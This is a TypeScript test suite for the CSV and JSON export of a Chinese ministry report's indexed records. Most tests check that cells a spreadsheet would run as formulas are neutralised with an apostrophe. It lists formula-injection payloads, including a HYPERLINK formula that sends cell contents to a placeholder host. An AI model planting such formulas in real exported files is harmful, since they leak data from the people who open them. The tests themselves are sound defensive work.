import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { recordsCsv, recordsJson } from '../../src/export/data.js';
import { quoteText } from '../../src/report/quote.js';
import { type Entry, indexReport } from '../../src/report/report-index.js';
import report from '../../src/reports/miit-2020-2021.js';
import { metricOf } from '../bundled.js';

const index = indexReport(report);
const entries = [...index.entries.values()];
const entry = (id: string): Entry => {
  const found = index.entries.get(id);
  assert.ok(found);
  return found;
};

/** Rows of cells, by RFC 4180; throws where a quoted cell is not closed. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let at = 0;
  while (at < text.length) {
    const row: string[] = [];
    for (;;) {
      if (text[at] === '"') {
        const end = /^"((?:[^"]|"")*)"/.exec(text.slice(at));
        assert.ok(end, 'a quoted cell is closed');
        row.push((end[1] ?? '').replaceAll('""', '"'));
        at += end[0].length;
      } else {
        const end = /^[^",\r\n]*/.exec(text.slice(at))?.[0] ?? '';
        row.push(end);
        at += end.length;
      }
      if (text[at] === ',') at += 1;
      else break;
    }
    assert.equal(text.slice(at, at + 2), '\r\n', 'a row ends with CR LF');
    at += 2;
    rows.push(row);
  }
  return rows;
}

/** The records of a CSV by column name. */
function records(csv: string): Record<string, string>[] {
  const [header = [], ...rows] = parseCsv(csv.replace(/^\ufeff/, ''));
  return rows.map((row) => {
    assert.equal(row.length, header.length);
    return Object.fromEntries(header.map((name, i) => [name, row[i] ?? '']));
  });
}

describe('records as CSV', () => {
  it('begin with one byte order mark, which spreadsheets take for UTF-8', () => {
    const csv = recordsCsv(entries, index, 'zh');
    assert.equal(csv.lastIndexOf('\ufeff'), 0);
    assert.deepEqual([...new TextEncoder().encode(csv).slice(0, 3)], [0xef, 0xbb, 0xbf]);
  });

  it('are a row each under one header, in either language, and so are none', () => {
    for (const language of ['zh', 'en'] as const)
      assert.equal(records(recordsCsv(entries, index, language)).length, entries.length);
    assert.match(recordsCsv([], index, 'zh'), /^\ufeffid,kind,label,[a-z_,]+,quote\r\n$/);
  });

  it('hold a figure in base units, its words, its time in EDTF and its sentence verbatim', () => {
    const [row] = records(recordsCsv([entry('tax-cuts')], index, 'en'));
    const { sentence } = metricOf(report, 'tax-cuts');
    assert.deepEqual(row, {
      id: 'tax-cuts',
      kind: 'metric',
      label: 'Taxes and fees cut over the year',
      value: '2500000000000',
      high: '',
      unit: '元',
      qualifier: 'over',
      written: '超2.5万亿元',
      direction: '',
      change: '',
      change_unit: '',
      change_direction: '',
      change_basis: '',
      change_written: '',
      expected: 'true',
      role: 'outcome',
      attribution: 'economy-wide',
      time: '2020',
      time_kind: 'during',
      time_stated: 'false',
      bureau: 'Bureau of Small and Medium-sized Enterprises, MIIT',
      place:
        '不断优化环境提升服务 推动中小企业稳定健康发展 › 推动中小企业有序复工复产、稳定健康发展 › (一)着力促进政策惠企',
      quote: quoteText(report, sentence),
    });
  });

  it('hold a change with its unit, direction and basis, and of a rate that is itself one the direction', () => {
    const { quantity: _, ...metric } = metricOf(report, 'inclusive-loans');
    const quantity = { value: 4.4, unit: '%', qualifier: 'exact', written: '4.4%' } as const;
    const record = { ...metric, quantity, direction: 'down' as const };
    const [loans, rate] = records(recordsCsv([entry('inclusive-loans'), { kind: 'metric', record }], index, 'zh'));
    assert.deepEqual(
      [loans?.direction, loans?.change, loans?.change_unit, loans?.change_direction, loans?.change_basis],
      ['', '29.6', '%', 'up', 'year-on-year'],
    );
    assert.equal(loans?.change_written, '29.6%');
    assert.deepEqual([rate?.value, rate?.direction], ['4.4', 'down']);
  });

  it('hold documents and tasks by their status and role, without a value', () => {
    const [document, task] = records(recordsCsv([entry('telecom-law'), entry('task-fairs')], index, 'zh'));
    assert.deepEqual(
      [document?.kind, document?.role, document?.value, document?.time],
      ['document', 'advanced', '', ''],
    );
    assert.deepEqual([task?.kind, task?.role, task?.value, task?.time], ['task', 'plan', '', '2021']);
  });

  /** The cell of a label, as a spreadsheet takes it. */
  const labelled = (label: string, value = 1): Record<string, string> => {
    const metric = metricOf(report, 'forums');
    const record = { ...metric, label: { zh: label }, quantity: { ...metric.quantity, value } };
    const [row] = records(recordsCsv([{ kind: 'metric', record }], index, 'zh'));
    assert.ok(row);
    return row;
  };

  it('lead a cell by an apostrophe where a spreadsheet would run it', () => {
    for (const formula of [
      '=1+1',
      '=HYPERLINK("http://a.example/?x="&A1,"看")',
      '+86',
      '-1+1',
      '@SUM(1,1)',
      '\t=1',
      '\0=1',
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(1)',
      '﹦1+1',
      '﹢1',
      '﹣1',
      '﹫SUM(1)',
      ' =1+1',
      '\u3000=1+1',
      '\u00a0 @SUM(1)',
      '\ufeff=1+1',
      '\u200b=1+1',
      ' -1+1',
      ' -5',
    ])
      assert.equal(labelled(formula).label, `'${formula}`);
  });

  it('lead by an apostrophe what begins a cell where semicolons part cells', () => {
    assert.equal(labelled('甲;=1+1;乙').label, "甲;'=1+1;乙");
    assert.equal(labelled('甲; \ufeff@SUM(1)').label, "甲; \ufeff'@SUM(1)");
    assert.equal(labelled('甲\r\n=1+1').label, "甲\r\n'=1+1");
    assert.equal(labelled('\n=1').label, "'\n'=1");
    assert.equal(labelled('甲;乙=丙').label, '甲;乙=丙');
  });

  it('keep semicolons and tabs inside their cell, which some spreadsheets part at as at commas', () => {
    const metric = metricOf(report, 'forums');
    for (const label of ['甲;乙', '甲\t乙']) {
      const record = { ...metric, label: { zh: label } };
      assert.ok(recordsCsv([{ kind: 'metric', record }], index, 'zh').includes(`,"${label}",`), label);
    }
  });

  it('leave a number alone, a negative one too', () => {
    assert.equal(labelled('-5').label, '-5');
    assert.equal(labelled('x', -29.6).value, '-29.6');
    assert.equal(labelled('x', -1e-7).value, '-1e-7');
    assert.equal(labelled('x', -1e21).value, '-1e+21');
    assert.equal(labelled('95.4%').label, '95.4%');
    assert.equal(labelled(' 两场 - 论坛').label, ' 两场 - 论坛');
  });

  it('are read back to the letter, whatever the words, and no cell begins a formula', () => {
    const hostile = fc
      .tuple(
        fc.constantFrom('', '=', '+', '-', '@', '"', ',', '\t', '\r\n', '＝', '\ufeff'),
        fc.string({ unit: 'binary' }),
      )
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(hostile, (words) => {
        const { label = '' } = labelled(words);
        const plain = label.replaceAll(/([;\r\n][\s\p{Cf}\p{Cc}]*)'(?=[=+\-@＝＋－＠﹢﹣﹦﹫])/gu, '$1');
        assert.ok([label, plain].some((read) => read === words || read === `'${words}`));
        assert.ok(!/^[=+\-@＝＋－＠\t\r\n\0]/.test(label) || /^-?\d+(\.\d+)?$/.test(label), JSON.stringify(label));
      }),
      { numRuns: 300 },
    );
  });

  it('have no cell in the bundled report that a spreadsheet would run', () => {
    for (const language of ['zh', 'en'] as const)
      for (const row of records(recordsCsv(entries, index, language)))
        for (const cell of Object.values(row)) assert.doesNotMatch(cell, /^[=+\-@＝＋－＠\t\r\n\0]/);
  });
});

describe('records as JSON', () => {
  it('hold each record as the report does, with its kind and the words that it quotes', () => {
    const written = JSON.parse(recordsJson(entries, index));
    assert.equal(written.report, report.id);
    assert.equal(written.records.length, entries.length);
    const own = written.records.find(({ id }: { id: string }) => id === 'legal-cases');
    const { id, quantity, quote } = metricOf(report, 'legal-cases');
    assert.deepEqual(
      [own.kind, own.id, own.quantity, own.quote, own.words],
      ['metric', id, quantity, quote, '400余件'],
    );
  });
});
